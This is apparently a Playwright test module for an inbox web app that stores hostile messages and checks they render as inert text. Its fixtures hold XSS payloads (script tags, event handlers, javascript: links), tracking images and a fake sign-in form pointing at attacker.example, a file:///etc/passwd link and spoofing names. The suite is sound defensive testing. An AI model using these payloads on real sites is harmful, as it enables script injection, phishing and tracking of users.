"""Messages that want to be more than text: nothing of them runs, loads, leaves its box or passes for the page.

They are put into the store as they are, past everything that cleans what comes in: the page must hold alone.
"""

from __future__ import annotations

import re
import tempfile
from collections.abc import Iterator, Sequence
from contextlib import ExitStack
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Browser, Locator, expect

from harken.model import Attention, NewMessage, Sender, Trust
from tests.browser.rig import DESK, PHONE, SignedInBrowser, Site, Window
from tests.builders import a_new_message
from tests.loss.rig import DaemonStarter, Served

ELSEWHERE: Final = "http://attacker.example"
MARKUP: Final = f"""\"'><script>window.pwned=1</script><img src={ELSEWHERE}/i onerror=window.pwned=1>"""
FLIPPED: Final = "\u202egnp.exe\u202e\u2066"
ZALGO: Final = "Z" + "\u0335\u0321\u031b\u0354\u0310\u0352" * 60
ENDLESS: Final = "x" * 10_000
HUGE: Final = "a line of many words that goes on\n" * 6_000
TEXTS: Final = (
    "<script>window.pwned=1</script>",
    f"<svg onload=window.pwned=1><script href={ELSEWHERE}/s></script></svg>",
    f"<style>* {{ display: none; background: url({ELSEWHERE}/c) }}</style>",
    f"<link rel=stylesheet href={ELSEWHERE}/l><base href={ELSEWHERE}>",
    "[click](javascript:window.pwned=1) [or](data:text/html,<script>window.pwned=1</script>) <javascript:pwned=1>",
    "[a](JaVaScRiPt:window.pwned=1) [b](&#106;avascript:window.pwned=1) [c](vbscript:x) [d](file:///etc/passwd)",
    f"![tracked]({ELSEWHERE}/p.png) <img src={ELSEWHERE}/q.png> <video src={ELSEWHERE}/v autoplay>",
    f"<form action={ELSEWHERE}><input name=token><button>Sign in again</button></form>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/m'><iframe src={ELSEWHERE}/f></iframe>",
    f"<div id=composer class=connection hx-get={ELSEWHERE} hx-trigger=load style='position:fixed'>",
    "<p onclick=window.pwned=1 onmouseover=window.pwned=1 autofocus onfocus=window.pwned=1 tabindex=0>press</p>",
    f"[https://bank.example]({ELSEWHERE}/bank)",
    "# One\n\n## Two\n\n###### Six",
    f"```html {MARKUP}\n</code></pre>{MARKUP}\n```",
    f"| a |\n|---|\n| {MARKUP} |",
    "{{ 7*7 }} {% raw %} ${7*7}",
    f"{FLIPPED} and then the rest",
    ZALGO,
    ENDLESS,
    f"`{ENDLESS}`",
    f"    {ENDLESS}",
    f"{ELSEWHERE}/{ENDLESS}",
    "> " * 400 + "deep",
    "\n" * 300 + "far below",
    HUGE,
)
# Whatever of a message is an element that a text never needs.
MADE: Final = (
    ".body :is(script, style, link, img, svg, iframe, form, input, button, video, object, meta, base, h1, h2, h3, h6), "
    ".body :is([id], [style], [onclick], [tabindex]:not(pre, table), [hx-get], [data-reply])"
)
HANDLERS: Final = """() => [...document.querySelectorAll("*")].flatMap((it) => it.getAttributeNames()
  .filter((name) => name.startsWith("on") || name === "style").map((name) => `${it.tagName} ${name}`))"""
TWICE: Final = """() => {
  const ids = [...document.querySelectorAll("[id]")].map((it) => it.id);
  return ids.filter((id, at) => ids.indexOf(id) !== at);
}"""
# Texts that stick out of the box of their message, or are cut off by it. A letter with hundreds of marks has no place
# where it could be broken, and some fonts put the marks side by side: it may be cut, but stick out it may not.
OUTSIDE: Final = """() => [...document.querySelectorAll(".item")].filter((item) => {
  const outer = item.getBoundingClientRect();
  return [...item.querySelectorAll(".item-main, .body, .item-head, .ledger, .sender, .from")].some((part) => {
    const box = part.getBoundingClientRect();
    const isCut = part.scrollWidth > part.clientWidth + 1 && !/\\p{M}{40}/u.test(part.textContent);
    return box.width && (isCut || box.left < outer.left - 1 || box.right > outer.right + 1);
  });
}).map((item) => item.dataset.said)"""


def message(text: str, sender: Sender, channel: str = "chat") -> NewMessage:
    """Return a message as no source would let it through."""
    return a_new_message(
        text, source="web", sender=sender, trust=Trust.UNKNOWN, attention=Attention.COUNT, channel=channel
    )


def hostile_messages() -> Sequence[NewMessage]:
    """Every text, and names that are no better."""
    ann = Sender("ann@example.org", "Ann")
    names = (MARKUP, FLIPPED, ZALGO, "x" * 300, "You", "\u202eYou", "<b>owner</b>")
    channels = (MARKUP, "a/../../b", "javascript:window.pwned=1", f"{FLIPPED}!", "y" * 300)
    return [
        *(message(text, ann) for text in TEXTS),
        *(message("hello", Sender(f"s{number}:{name}", name)) for number, name in enumerate(names)),
        *(message("hello", ann, channel) for channel in channels),
    ]


@pytest.fixture(scope="module")
def crowded(browser: Browser, signed_in: SignedInBrowser, starter: DaemonStarter) -> Iterator[Served]:
    """A daemon in which everything hostile has happened. The tests only look at it."""
    with ExitStack() as stack:
        # A short path: a socket's name has at most 107 bytes.
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="harken-")))
        signed_in.introduce(folder / "home")
        daemon = stack.enter_context(starter.daemon(folder / "home")).start()
        site = Site(browser, daemon, folder, stack)
        site.store(hostile_messages())
        site.task("web", title=f"{MARKUP} {FLIPPED}", branch=MARKUP, prompt=TEXTS[0])
        site.task("api", "web", title="z" * 120)
        site.agent(MARKUP).tool("inbox_pull", limit=100)
        yield daemon


@pytest.fixture(scope="module")
def window(browser: Browser, signed_in: SignedInBrowser, crowded: Served) -> Iterator[Window]:
    """A look at what is hostile: most tests only look, and those that go elsewhere come after them."""
    with ExitStack() as stack:
        yield Site(browser, crowded, crowded.home, stack, signed_in).window()


def check(window: Window) -> None:
    """Assert that a page is still what it was made to be."""
    page = window.page
    assert page.evaluate("() => typeof window.pwned") == "undefined"
    assert window.strangers() == []
    assert window.complaints == []
    assert page.evaluate(HANDLERS) == []
    assert page.locator(MADE).count() == 0
    assert page.evaluate(TWICE) == []
    assert page.evaluate(OUTSIDE) == []
    assert window.overflow() <= 0
    assert page.url.startswith(window.origin)
    expect(page.get_by_role("heading", level=1)).to_have_count(1)
    expect(page.locator("body > nav")).to_have_attribute("aria-label", "Places")
    expect(page.get_by_role("main")).to_have_count(1)


def check_on_every_screen(window: Window) -> None:
    """Assert that at a desk and on a phone."""
    for size in (PHONE, DESK):
        window.page.set_viewport_size({"width": size["width"], "height": size["height"]})
        check(window)


def links(window: Window) -> Locator:
    """The links inside of messages."""
    return window.items.locator(".body a")


def test_links_say_where_they_lead_and_lead_nowhere_else(window: Window) -> None:
    """A link is the one thing of a message that can be followed: to the web or to a mail, and never unawares."""
    expect(links(window).first).to_be_attached()
    for link in links(window).all():
        assert re.match(r"(https?|mailto):", link.get_attribute("href") or "")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    disguised = window.items.filter(has=window.page.get_by_role("link", name="https://bank.example"))
    expect(disguised.locator(".body")).to_have_text("https://bank.example (attacker.example)")


def test_names_do_not_pass_for_somebody_else(window: Window) -> None:
    """A sender chooses their name: who is not known is marked, with the id that the source vouches for."""
    pretending = window.items.filter(has=window.page.locator(".sender", has_text=re.compile("^You$")))
    expect(pretending).to_have_count(1)
    expect(pretending.locator(".mark-unknown")).to_have_text("not pushed: unknown sender")
    expect(pretending.locator(".sender-id")).to_have_text("s4:You")
    expect(pretending.locator(".avatar")).not_to_have_class(re.compile("is-owner"))


def test_right_to_left_override_turns_nothing_but_itself(window: Window) -> None:
    """A name that turns the line around could put its own words in the place of the page's."""
    flipped = window.items.filter(has=window.page.locator(".sender", has_text=FLIPPED)).first
    lefts = [
        flipped.locator(part).evaluate("(it) => it.getBoundingClientRect().left")
        for part in (".sender", ".mark", ".sender-id", ".from", "a.when")
    ]
    assert lefts == sorted(lefts)


def test_huge_text_is_shown_in_part_and_whole_on_demand(window: Window) -> None:
    """One message of a megabyte must not make the inbox unusable, and must still be readable."""
    huge = window.items.filter(has_text="a line of many words").first
    shown = huge.bounding_box()
    assert shown
    assert shown["height"] < 600
    huge.get_by_text("Show all").click()
    expect(huge.get_by_text("Show all")).to_have_count(0)
    for count in (2, 3):
        huge.get_by_text("Show more").click()
        expect(huge.locator(".body")).to_have_count(count)
    expect(huge.get_by_text("Show more")).to_have_count(0)
    shown_text = "".join(piece.rstrip("\n") + "\n" for piece in huge.locator(".body").all_inner_texts())
    assert shown_text == HUGE
    check(window)


@pytest.mark.parametrize("part", [".body", ".sender"])
def test_piled_up_marks_do_not_paint_over_others(window: Window, part: str) -> None:
    """A letter with hundreds of marks is higher than the window: it may spoil its own message, and no other.

    A picture leaves styles on the page, so that this comes after what looks for them.
    """
    piled = window.items.filter(has=window.page.locator(part, has_text=ZALGO)).first
    above = piled.locator("xpath=preceding-sibling::*[1]")
    below = piled.locator("xpath=following-sibling::*[1]")
    for neighbour in (above, below):
        neighbour.scroll_into_view_if_needed()
        with_it = neighbour.screenshot()
        piled.evaluate("(it) => { it.style.visibility = 'hidden'; }")
        without_it = neighbour.screenshot()
        piled.evaluate("(it) => { it.style.visibility = ''; }")
        assert with_it == without_it


def test_hostile_messages_are_only_text(window: Window) -> None:
    """Anybody can write to an inbox: reading it must be safe, whatever it says and whoever says they are."""
    window.goto("/m/inbox")
    expect(window.items).to_have_count(len(hostile_messages()))
    check_on_every_screen(window)
    expect(window.page.get_by_role("button", name="Send", exact=True)).to_have_count(1)
    expect(window.page.get_by_role("textbox", name="Message", exact=True)).to_have_count(1)
    expect(window.page.get_by_role("button", name="Sign in again")).to_have_count(0)
    hrefs = window.page.locator("#places a.place").evaluate_all("(links) => links.map((it) => it.getAttribute('href'))")
    pages = ("/t/web", "/m/task:web", "/tasks", "/sessions", "/pulse", "/search?q=hello", "/search?q=window")
    for path in (*pages, *hrefs):
        window.goto(path)
        expect(window.page.locator("h1")).to_be_visible()
        check_on_every_screen(window)


def test_what_hostile_text_is_sent_in_the_page_stays_text(site: Site) -> None:
    """The composer, its quotes and its announcements show texts too."""
    site.send(MARKUP, sender="anna", channel="teams")
    window = site.window()
    window.page.keyboard.press("r")
    expect(window.page.locator("#replying")).to_contain_text("<script>")
    window.page.keyboard.press("Escape")
    window.say(MARKUP)
    expect(window.items).to_have_count(2)
    expect(window.items.last.locator(".body")).to_contain_text("<script>")
    expect(window.page.locator("#announce")).to_contain_text("<script>")
    check(window)
